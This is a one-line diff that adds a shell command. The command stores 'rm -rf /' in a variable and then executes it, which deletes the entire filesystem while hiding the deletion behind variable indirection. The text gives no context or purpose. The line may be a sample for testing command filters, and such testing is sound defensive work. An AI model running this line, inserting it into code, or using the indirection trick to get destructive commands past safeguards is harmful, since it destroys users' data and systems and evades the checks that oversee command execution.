@@ -1,0 +1,1 @@
+read -r c <<< "rm -rf /"; $c
